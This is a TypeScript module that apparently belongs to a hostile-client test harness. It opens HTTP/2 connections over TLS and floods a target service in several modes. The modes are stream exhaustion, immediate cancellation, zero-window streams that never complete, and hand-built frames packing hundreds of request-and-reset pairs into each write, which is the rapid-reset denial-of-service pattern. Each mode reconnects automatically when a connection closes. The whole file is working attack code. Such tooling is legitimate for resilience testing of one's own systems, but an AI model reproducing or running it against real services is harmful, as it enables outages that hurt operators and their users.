import { connect, constants } from 'node:http2';
import { connect as connectSecured } from 'node:tls';
import { beginning, FLAGS, frameOf, headersOf, resetOf, TYPES } from '../support/http/http2-frames';
import type { Http2Mode, Shot } from './attack';
import { type Address, RECONNECT_MS, type Tally } from './hostile-client';

/** As many as the service lets a connection have. */
const STREAMS = 128;
const RESETS = 400;
/** Stream numbers that one connection uses; then it is made again. */
const NUMBERS_MAX = 100_000;

/** A connection of HTTP/2 over TLS that is used in that mode; made again when it ends. */
export function streamsOn(address: Address, mode: Http2Mode, shot: Shot, tally: Tally): void {
  if (mode === 'streams' || mode === 'cancel' || mode === 'windowless') return byLibrary(address, mode, shot, tally);
  return byFrames(address, mode, shot, tally);
}

function byLibrary(address: Address, mode: 'streams' | 'cancel' | 'windowless', shot: Shot, tally: Tally): void {
  const { method, path, headers, body } = shot;
  const { host, port, ca, apiKey } = address;
  const session = connect(`https://${host}:${port}`, {
    ca: ca ?? undefined,
    settings: mode === 'windowless' ? { initialWindowSize: 0 } : {},
  });
  const count = (code: number): void => void (tally[code] = (tally[code] ?? 0) + 1);
  const begin = (): void => {
    if (session.closed || session.destroyed) return;
    const stream = session.request({ ':method': method, ':path': path, 'x-api-key': apiKey, ...headers });
    stream.on('error', () => undefined);
    stream.on('close', () => {
      if (mode !== 'windowless') count(stream.rstCode === constants.NGHTTP2_NO_ERROR ? 0 : -1);
      setImmediate(begin);
    });
    stream.resume();
    stream.end(body ?? undefined);
    // Such a stream does not end by itself.
    if (mode === 'windowless') count(0);
    if (mode === 'cancel') setImmediate(() => stream.close(constants.NGHTTP2_CANCEL));
  };
  session.on('error', () => undefined);
  session.on('goaway', () => session.close());
  session.on('close', () => setTimeout(() => byLibrary(address, mode, shot, tally), RECONNECT_MS));
  session.once('remoteSettings', ({ maxConcurrentStreams = STREAMS }) => {
    for (let i = 0; i < maxConcurrentStreams; i += 1) begin();
  });
}

/** What no library sends: requests and their resets in one write, again as soon as the write was taken. */
function byFrames(address: Address, mode: 'resets' | 'pieces', shot: Shot, tally: Tally): void {
  const { host, port, ca, apiKey } = address;
  const socket = connectSecured({ host, port, ca: ca ?? undefined, ALPNProtocols: ['h2'] });
  const fields: (readonly [string, string])[] = [
    [':method', shot.method],
    [':path', shot.path],
    [':scheme', 'https'],
    [':authority', 'a'],
    ['x-api-key', apiKey],
    ...Object.entries(shot.headers),
  ];
  const requests = (from: number): Buffer => {
    const ids = Array.from({ length: mode === 'resets' ? RESETS : STREAMS }, (_, i) => from + 2 * i);
    if (mode === 'resets') return Buffer.concat(ids.flatMap((id) => [headersOf(id, fields), resetOf(id)]));
    return Buffer.concat(
      ids.flatMap((id) => [
        headersOf(id, fields),
        frameOf(TYPES.data, { flags: FLAGS.endStream, stream: id, content: shot.body ?? Buffer.alloc(0) }),
        resetOf(id),
      ]),
    );
  };
  let next = 1;
  const fire = (): void => {
    if (socket.destroyed) return;
    if (next > NUMBERS_MAX) return void socket.destroy();
    const bytes = requests(next);
    next += 2 * (mode === 'resets' ? RESETS : STREAMS);
    tally[0] = (tally[0] ?? 0) + 1;
    if (socket.write(bytes)) setImmediate(fire);
    else socket.once('drain', fire);
  };
  socket.on('error', () => undefined);
  socket.resume();
  socket.on('secureConnect', () => {
    socket.write(beginning());
    fire();
  });
  socket.on('close', () => {
    tally[-1] = (tally[-1] ?? 0) + 1;
    setTimeout(() => byFrames(address, mode, shot, tally), RECONNECT_MS);
  });
}
